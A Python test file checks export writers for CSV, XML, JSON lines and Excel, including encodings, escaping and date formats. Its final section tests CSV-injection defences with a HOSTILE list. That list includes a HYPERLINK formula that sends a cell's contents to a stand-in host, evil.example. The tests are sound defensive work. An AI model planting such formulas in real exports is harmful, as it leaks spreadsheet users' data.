"""The export entity-file writers: exact bytes for CSV, XML and JSON lines, an Excel sheet read back."""

from __future__ import annotations

import io
import json
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest

from shared.domain.schema import BUILTIN_FORMATS, Field
from shared.formats.writers import excel_sheet_name, write_csv, write_excel, write_json, write_xml

CSV = BUILTIN_FORMATS["CSV"]
CSV_UNICODE = BUILTIN_FORMATS["CSV-UNICODE"]
XML_ELEMENT = BUILTIN_FORMATS["XML-ELEMENT"]
JSON = BUILTIN_FORMATS["JSON"]
EXCEL = BUILTIN_FORMATS["EXCEL"]

COLUMNS = [
    (Field("ACCOUNT"), "ACCOUNT"),
    (Field("NAME"), "NAME"),
    (Field("AMOUNT", "decimal"), "AMOUNT"),
    (Field("QTY", "int"), "QTY"),
    (Field("ACTIVE", "bool"), "ACTIVE"),
    (Field("VALIDFROM", "date"), "VALIDFROM"),
    (Field("CREATED", "datetime"), "CREATED"),
]
ROW = {
    "ACCOUNT": "C1",
    "NAME": "Smith",
    "AMOUNT": Decimal("1234.50"),
    "QTY": 3,
    "ACTIVE": True,
    "VALIDFROM": date(2024, 1, 31),
    "CREATED": datetime(2024, 1, 31, 13, 45, 7, tzinfo=UTC),
}
EMPTY = {"ACCOUNT": "C2"}  # every other field missing


class Prop:
    """Duck-typed like azure-data-tables' EntityProperty (Int64 values come back wrapped)."""

    def __init__(self, value, edm_type="Edm.Int64") -> None:
        self.value = value
        self.edm_type = edm_type


def csv_bytes(columns, pages, fmt=CSV) -> bytes:
    out = io.BytesIO()
    write_csv(out, columns, fmt, pages)
    return out.getvalue()


def xml_bytes(columns, pages, *, attributes: bool, fmt=XML_ELEMENT, record="CUSTOMER") -> bytes:
    out = io.BytesIO()
    write_xml(out, columns, fmt, pages, record=record, attributes=attributes)
    return out.getvalue()


def json_bytes(columns, pages, fmt=JSON) -> bytes:
    out = io.BytesIO()
    write_json(out, columns, fmt, pages)
    return out.getvalue()


# CSV ---------------------------------------------------------------------------------------------


def test_csv_header_crlf_and_d365_values() -> None:
    assert csv_bytes(COLUMNS, [[ROW, EMPTY]]) == (
        b"ACCOUNT,NAME,AMOUNT,QTY,ACTIVE,VALIDFROM,CREATED\r\n"
        b"C1,Smith,1234.50,3,Yes,2024-01-31,2024-01-31 13:45:07\r\n"
        b"C2,,,,,,\r\n"
    )


def test_csv_quotes_only_when_needed() -> None:
    columns = [(Field("A"), "A"), (Field("B"), "B")]
    rows = [
        {"A": "plain", "B": "with space"},
        {"A": "a,b", "B": 'say "hi"'},
        {"A": "two\nlines", "B": "cr\rhere"},
        {"A": "", "B": "'single'"},
    ]
    assert csv_bytes(columns, [rows]) == (
        b'A,B\r\nplain,with space\r\n"a,b","say ""hi"""\r\n"two\nlines","cr\rhere"\r\n,\'single\'\r\n'
    )


def test_csv_without_a_qualifier_escapes_with_a_backslash() -> None:
    fmt = replace(CSV, delimiter=";", text_qualifier="")
    columns = [(Field("A"), "A"), (Field("B"), "B")]
    assert csv_bytes(columns, [[{"A": "x;y", "B": "z"}]], fmt) == b"A;B\r\nx\\;y;z\r\n"


def test_csv_without_header_row_and_mapped_column_names() -> None:
    fmt = replace(CSV, header_row=False)
    columns = [(Field("ACCOUNT"), "CustomerAccount")]
    assert csv_bytes(columns, [[{"ACCOUNT": "C1"}]], fmt) == b"C1\r\n"
    assert csv_bytes(columns, [[{"ACCOUNT": "C1"}]]) == b"CustomerAccount\r\nC1\r\n"


def test_csv_pages_are_written_in_order_and_no_pages_is_the_header_only() -> None:
    columns = [(Field("A"), "A")]
    pages = [[{"A": "1"}, {"A": "2"}], [], [{"A": "3"}]]
    assert csv_bytes(columns, pages) == b"A\r\n1\r\n2\r\n3\r\n"
    assert csv_bytes(columns, iter(pages)) == b"A\r\n1\r\n2\r\n3\r\n"  # any iterable of pages
    assert csv_bytes(columns, []) == b"A\r\n"


def test_csv_exact_decimals_never_in_exponent_notation() -> None:
    columns = [(Field("D", "decimal"), "D")]
    values = [Decimal("1E+3"), Decimal("1.5E-7"), Decimal("0.10"), 0.1, 12, "-7.250", Decimal("-0")]
    out = csv_bytes(columns, [[{"D": v} for v in values]])
    assert out == b"D\r\n1000\r\n0.00000015\r\n0.10\r\n0.1\r\n12\r\n-7.250\r\n-0\r\n"


def test_csv_decimal_comma_is_quoted_with_a_comma_delimiter() -> None:
    columns = [(Field("D", "decimal"), "D"), (Field("N", "int"), "N")]
    comma = replace(CSV, decimal_separator=",")
    assert csv_bytes(columns, [[{"D": Decimal("1.5"), "N": 2}]], comma) == b'D,N\r\n"1,5",2\r\n'
    semicolon = replace(comma, delimiter=";")
    assert csv_bytes(columns, [[{"D": Decimal("1.5"), "N": 2}]], semicolon) == b"D;N\r\n1,5;2\r\n"


def test_csv_datetimes_are_utc_yyyy_mm_dd_hh_mm_ss() -> None:
    columns = [(Field("T", "datetime"), "T")]
    plus2 = timezone(timedelta(hours=2))
    values = [
        datetime(2024, 1, 31, 13, 45, 7, 123456, tzinfo=UTC),
        datetime(2024, 1, 31, 13, 45, 7),  # naive: taken as UTC
        datetime(2024, 1, 1, 1, 0, 0, tzinfo=plus2),  # converted to UTC
        "2024-06-30T23:59:59Z",
        "2024-06-30T23:59:59.5+01:00",
    ]
    out = csv_bytes(columns, [[{"T": v} for v in values]])
    assert out == (
        b"T\r\n2024-01-31 13:45:07\r\n2024-01-31 13:45:07\r\n2023-12-31 23:00:00\r\n"
        b"2024-06-30 23:59:59\r\n2024-06-30 22:59:59\r\n"
    )


def test_csv_format_date_and_datetime_patterns_are_honoured() -> None:
    fmt = replace(CSV, date_format="%d/%m/%Y", datetime_format="%d/%m/%Y %H:%M")
    columns = [(Field("D", "date"), "D"), (Field("T", "datetime"), "T")]
    rows = [
        {"D": date(2024, 3, 9), "T": datetime(2024, 3, 9, 8, 5, 59, tzinfo=UTC)},
        {"D": "2024-03-10T00:00:00", "T": "2024-03-10T08:05:00+00:00"},
    ]
    assert (
        csv_bytes(columns, [rows], fmt)
        == b"D,T\r\n09/03/2024,09/03/2024 08:05\r\n10/03/2024,10/03/2024 08:05\r\n"
    )


def test_csv_dates_default_to_iso() -> None:
    columns = [(Field("D", "date"), "D")]
    rows = [
        {"D": date(2024, 3, 9)},
        {"D": datetime(2024, 3, 9, 23, 0, tzinfo=UTC)},
        {"D": "2024-03-10T00:00Z"},
    ]
    assert csv_bytes(columns, [rows]) == b"D\r\n2024-03-09\r\n2024-03-09\r\n2024-03-10\r\n"


def test_csv_bools_are_yes_no() -> None:
    columns = [(Field("B", "bool"), "B")]
    values = [True, "true", "True", 1, False, "false", 0, "yes", "1"]
    out = csv_bytes(columns, [[{"B": v} for v in values]])
    assert out == b"B\r\nYes\r\nYes\r\nYes\r\nYes\r\nNo\r\nNo\r\nNo\r\nNo\r\nNo\r\n"


def test_csv_unwraps_entity_properties() -> None:
    columns = [(Field("N", "int"), "N"), (Field("S"), "S"), (Field("B", "bool"), "B")]
    row = {"N": Prop(9_007_199_254_740_993), "S": Prop("x", "Edm.String"), "B": Prop(True, "Edm.Boolean")}
    assert csv_bytes(columns, [[row]]) == b"N,S,B\r\n9007199254740993,x,Yes\r\n"


def test_csv_unicode_is_utf16le_with_a_bom() -> None:
    columns = [(Field("NAME"), "NAME")]
    out = csv_bytes(columns, [[{"NAME": "Müller €"}]], CSV_UNICODE)
    assert out.startswith(b"\xff\xfe")
    assert out == b"\xff\xfe" + "NAME\r\nMüller €\r\n".encode("utf-16-le")


@pytest.mark.parametrize(
    ("encoding", "bom", "codec"),
    [
        (None, b"", "utf-8"),
        ("UTF-8", b"", "utf-8"),
        ("utf_8_sig", b"\xef\xbb\xbf", "utf-8"),
        ("utf-16", b"\xff\xfe", "utf-16-le"),
        ("UTF-16BE", b"\xfe\xff", "utf-16-be"),
        ("cp1252", b"", "cp1252"),
    ],
)
def test_csv_encodings_and_boms(encoding, bom, codec) -> None:
    fmt = replace(CSV, encoding=encoding)
    assert csv_bytes([(Field("A"), "A")], [[{"A": "é"}]], fmt) == bom + "A\r\né\r\n".encode(codec)


def test_csv_a_value_the_encoding_cannot_hold_raises_unicode_encode_error() -> None:
    fmt = replace(CSV, encoding="cp1252")
    with pytest.raises(UnicodeEncodeError):
        csv_bytes([(Field("A"), "A")], [[{"A": "日本"}]], fmt)


# XML ---------------------------------------------------------------------------------------------


def test_xml_element_shape() -> None:
    out = xml_bytes(COLUMNS[:4], [[ROW, EMPTY]], attributes=False)
    assert out == (
        b'<?xml version="1.0" encoding="utf-8"?>\r\n<Document>\r\n'
        b"  <CUSTOMER><ACCOUNT>C1</ACCOUNT><NAME>Smith</NAME><AMOUNT>1234.50</AMOUNT><QTY>3</QTY></CUSTOMER>\r\n"
        b"  <CUSTOMER><ACCOUNT>C2</ACCOUNT><NAME /><AMOUNT /><QTY /></CUSTOMER>\r\n"
        b"</Document>\r\n"
    )


def test_xml_attribute_shape() -> None:
    out = xml_bytes(COLUMNS[:4], [[ROW, EMPTY]], attributes=True)
    assert out == (
        b'<?xml version="1.0" encoding="utf-8"?>\r\n<Document>\r\n'
        b'  <CUSTOMER ACCOUNT="C1" NAME="Smith" AMOUNT="1234.50" QTY="3" />\r\n'
        b'  <CUSTOMER ACCOUNT="C2" NAME="" AMOUNT="" QTY="" />\r\n'
        b"</Document>\r\n"
    )


def test_xml_no_pages_is_an_empty_document() -> None:
    assert xml_bytes(COLUMNS, [], attributes=False) == (
        b'<?xml version="1.0" encoding="utf-8"?>\r\n<Document>\r\n</Document>\r\n'
    )


TRICKY = "a&b <c> \"q\" 'x'\r\nnext\tend\x00\x01\x0b\ufffe"


def test_xml_element_escaping() -> None:
    out = xml_bytes([(Field("NAME"), "NAME")], [[{"NAME": TRICKY}]], attributes=False)
    body = out.split(b"<Document>\r\n")[1]
    assert body == (
        b"  <CUSTOMER><NAME>a&amp;b &lt;c&gt; \"q\" 'x'&#xD;\nnext\tend</NAME></CUSTOMER>\r\n</Document>\r\n"
    )


def test_xml_attribute_escaping() -> None:
    out = xml_bytes([(Field("NAME"), "NAME")], [[{"NAME": TRICKY}]], attributes=True)
    body = out.split(b"<Document>\r\n")[1]
    assert body == (
        b"  <CUSTOMER NAME=\"a&amp;b &lt;c&gt; &quot;q&quot; 'x'&#xD;&#xA;next&#x9;end\" />\r\n</Document>\r\n"
    )


def test_xml_is_well_formed_and_round_trips() -> None:
    from xml.etree import ElementTree

    for attributes in (False, True):
        out = xml_bytes([(Field("NAME"), "Name")], [[{"NAME": TRICKY}]], attributes=attributes)
        record = ElementTree.fromstring(out)[0]
        value = record.get("Name") if attributes else record.find("Name").text
        assert value == "a&b <c> \"q\" 'x'\r\nnext\tend"


def test_xml_utf16_declares_utf16_with_a_bom() -> None:
    fmt = replace(XML_ELEMENT, encoding="utf-16-le")
    out = xml_bytes([(Field("NAME"), "NAME")], [[{"NAME": "é"}]], attributes=False, fmt=fmt)
    assert out == b"\xff\xfe" + (
        '<?xml version="1.0" encoding="utf-16"?>\r\n<Document>\r\n'
        "  <CUSTOMER><NAME>é</NAME></CUSTOMER>\r\n</Document>\r\n"
    ).encode("utf-16-le")


def test_xml_values_use_the_text_conventions() -> None:
    out = xml_bytes(COLUMNS[4:], [[ROW]], attributes=True)
    assert b'<CUSTOMER ACTIVE="Yes" VALIDFROM="2024-01-31" CREATED="2024-01-31 13:45:07" />' in out


# JSON lines ---------------------------------------------------------------------------------------


def test_json_lines() -> None:
    out = json_bytes(COLUMNS, [[ROW], [EMPTY]])
    assert out == (
        b'{"ACCOUNT":"C1","NAME":"Smith","AMOUNT":"1234.50","QTY":3,"ACTIVE":true,'
        b'"VALIDFROM":"2024-01-31","CREATED":"2024-01-31T13:45:07Z"}\n'
        b'{"ACCOUNT":"C2","NAME":null,"AMOUNT":null,"QTY":null,"ACTIVE":null,"VALIDFROM":null,"CREATED":null}\n'
    )
    assert [json.loads(line)["ACCOUNT"] for line in out.splitlines()] == ["C1", "C2"]


def test_json_values() -> None:
    columns = [
        (Field("D", "decimal"), "d"),
        (Field("N", "int"), "n"),
        (Field("B", "bool"), "b"),
        (Field("T", "datetime"), "t"),
        (Field("S"), "s"),
    ]
    row = {
        "D": Decimal("1E+3"),
        "N": Prop(2**53 + 1),
        "B": 0,
        "T": datetime(2024, 1, 1, 1, 0, 0, 500, tzinfo=timezone(timedelta(hours=2))),
        "S": 'Zoë "q"\n',
    }
    assert (
        json_bytes(columns, [[row]])
        == (
            '{"d":"1000","n":9007199254740993,"b":false,"t":"2023-12-31T23:00:00.000500Z","s":"Zoë \\"q\\"\\n"}\n'
        ).encode()
    )


def test_json_no_rows_writes_nothing_and_utf16_gets_a_bom() -> None:
    assert json_bytes(COLUMNS, [[], []]) == b""
    fmt = replace(JSON, encoding="utf-16")
    assert json_bytes([(Field("A"), "A")], [[{"A": "é"}]], fmt) == b"\xff\xfe" + '{"A":"é"}\n'.encode(
        "utf-16-le"
    )


# Excel -------------------------------------------------------------------------------------------


def test_excel_sheet_reads_back(tmp_path) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "out.xlsx"
    with open(path, "wb") as stream:
        write_excel(stream, COLUMNS, EXCEL, [[ROW], [EMPTY]], sheet="Customers")
    workbook = load_workbook(path, read_only=True)
    assert workbook.sheetnames == ["Customers"]
    rows = [list(r) for r in workbook["Customers"].iter_rows(values_only=True)]
    workbook.close()
    assert rows == [
        ["ACCOUNT", "NAME", "AMOUNT", "QTY", "ACTIVE", "VALIDFROM", "CREATED"],
        ["C1", "Smith", "1234.50", "3", "Yes", "2024-01-31", "2024-01-31 13:45:07"],  # all text, as CSV
        ["C2"],  # missing values are empty cells (not written, so the row ends early)
    ]


def test_excel_default_sheet_and_header_only(tmp_path) -> None:
    from openpyxl import load_workbook

    stream = io.BytesIO()
    write_excel(stream, [(Field("A"), "Column A")], EXCEL, [])
    stream.seek(0)
    workbook = load_workbook(stream, read_only=True)
    assert workbook.sheetnames == ["Sheet1"]
    assert [list(r) for r in workbook["Sheet1"].iter_rows(values_only=True)] == [["Column A"]]
    workbook.close()


@pytest.mark.parametrize(
    ("name", "sheet"),
    [
        ("Customers", "Customers"),
        ("a[b]c:d*e?f/g\\h", "a_b_c_d_e_f_g_h"),
        ("'quoted'", "quoted"),
        ("''", "Sheet1"),
        ("", "Sheet1"),
        ("x" * 40, "x" * 31),
    ],
)
def test_excel_sheet_name(name, sheet) -> None:
    assert excel_sheet_name(name) == sheet


def test_excel_drops_control_characters_instead_of_failing():
    import io

    from openpyxl import load_workbook

    from shared.domain.schema import BUILTIN_FORMATS, Field
    from shared.formats.writers import write_excel

    out = io.BytesIO()
    write_excel(out, [(Field("NAME"), "NAME")], BUILTIN_FORMATS["EXCEL"], [[{"NAME": "a\x01b"}]])
    out.seek(0)
    rows = list(load_workbook(out, read_only=True).active.iter_rows(values_only=True))
    assert rows == [("NAME",), ("ab",)]


# Formula neutralization (OWASP CSV injection) ------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\tx",
    "\rx",
]
TEXT_COLUMNS = [(Field("NAME"), "NAME"), (Field("KIND", "enum", values=("=x",)), "KIND")]
NUMBER_COLUMNS = [(Field("QTY", "int"), "QTY"), (Field("AMOUNT", "decimal"), "AMOUNT")]


def neutralized(text: str) -> str:
    return "'" + text


def csv_cells(data: bytes, fmt=CSV) -> list[list[str]]:
    import csv as csv_module

    text = data.decode("utf-8")
    return list(csv_module.reader(io.StringIO(text, newline=""), delimiter=fmt.delimiter))


def excel_rows(columns, rows, **options) -> tuple[list[list], list[list[str]], bytes]:
    """(values, data types, the sheet's XML) of a workbook written by write_excel."""
    import zipfile

    from openpyxl import load_workbook

    stream = io.BytesIO()
    write_excel(stream, columns, EXCEL, [rows], **options)
    sheet_xml = zipfile.ZipFile(io.BytesIO(stream.getvalue())).read("xl/worksheets/sheet1.xml")
    stream.seek(0)
    sheet = load_workbook(stream).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    types = [[c.data_type for c in row] for row in sheet.iter_rows()]
    return values, types, sheet_xml


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_that_starts_a_formula_gets_a_quote_in_front(text) -> None:
    cells = csv_cells(csv_bytes(TEXT_COLUMNS, [[{"NAME": text, "KIND": "=x"}]]))
    assert cells[1] == [neutralized(text), "'=x"]


def test_csv_text_that_starts_no_formula_is_unchanged() -> None:
    rows = [{"NAME": v} for v in ("plain", "a=b", "1-2", "'quoted", " =lead space", "")]
    cells = csv_cells(csv_bytes(TEXT_COLUMNS[:1], [rows]))
    assert [c[0] for c in cells[1:]] == ["plain", "a=b", "1-2", "'quoted", " =lead space", ""]


def test_csv_numbers_dates_and_booleans_are_never_neutralized() -> None:
    columns = NUMBER_COLUMNS + [(Field("ON", "bool"), "ON"), (Field("D", "date"), "D")]
    data = csv_bytes(
        columns, [[{"QTY": -5, "AMOUNT": Decimal("-1234.50"), "ON": False, "D": date(2024, 1, 2)}]]
    )
    assert data == b"QTY,AMOUNT,ON,D\r\n-5,-1234.50,No,2024-01-02\r\n"


def test_csv_option_off_passes_values_through() -> None:
    out = io.BytesIO()
    write_csv(out, TEXT_COLUMNS[:1], CSV, [[{"NAME": v} for v in HOSTILE]], neutralize=False)
    assert [c[0] for c in csv_cells(out.getvalue())[1:]] == HOSTILE


def test_csv_without_a_qualifier_neutralizes_each_cell_a_spreadsheet_would_see() -> None:
    # A spreadsheet ignores the backslash escapes: "a\;=1+1" is the cells "a\" and "=1+1".
    fmt = replace(CSV, delimiter=";", text_qualifier="")
    data = csv_bytes(TEXT_COLUMNS[:1], [[{"NAME": "a;=1+1"}, {"NAME": "b\n@x"}, {"NAME": "-c"}]], fmt)
    assert data == b"NAME\r\na\\;'=1+1\r\nb\\\n'@x\r\n'-c\r\n"


def test_csv_unicode_neutralizes_too() -> None:
    data = csv_bytes(TEXT_COLUMNS[:1], [[{"NAME": "=1+1"}]], CSV_UNICODE)
    assert data == b"\xff\xfe" + "NAME\r\n'=1+1\r\n".encode("utf-16-le")


def test_excel_text_that_starts_a_formula_is_a_quoted_string_cell() -> None:
    values, types, sheet_xml = excel_rows(TEXT_COLUMNS[:1], [{"NAME": v} for v in HOSTILE])
    assert [v[0] for v in values[1:]] == [neutralized(v) for v in HOSTILE]
    assert {t[0] for t in types} == {"s"}
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_excel_numbers_are_never_neutralized() -> None:
    values, _, _ = excel_rows(NUMBER_COLUMNS, [{"QTY": -5, "AMOUNT": Decimal("-1.50")}])
    assert values[1] == ["-5", "-1.50"]


def test_excel_option_off_passes_values_through_but_never_as_a_formula() -> None:
    """openpyxl 3.1 makes any str starting with '=' a formula cell and '#N/A' an error cell
    (openpyxl/cell/cell.py, Cell._bind_value); the writer keeps both text."""
    rows = [{"NAME": v} for v in HOSTILE + ["#N/A", "#DIV/0!"]]
    values, types, sheet_xml = excel_rows(TEXT_COLUMNS[:1], rows, neutralize=False)
    assert [v[0] for v in values[1:]] == HOSTILE + ["#N/A", "#DIV/0!"]
    assert {t[0] for t in types} == {"s"}
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_excel_header_that_looks_like_a_formula_stays_text() -> None:
    values, types, sheet_xml = excel_rows([(Field("NAME"), "=NAME")], [])
    assert values == [["=NAME"]] and types == [["s"]]
    assert b"<f>" not in sheet_xml
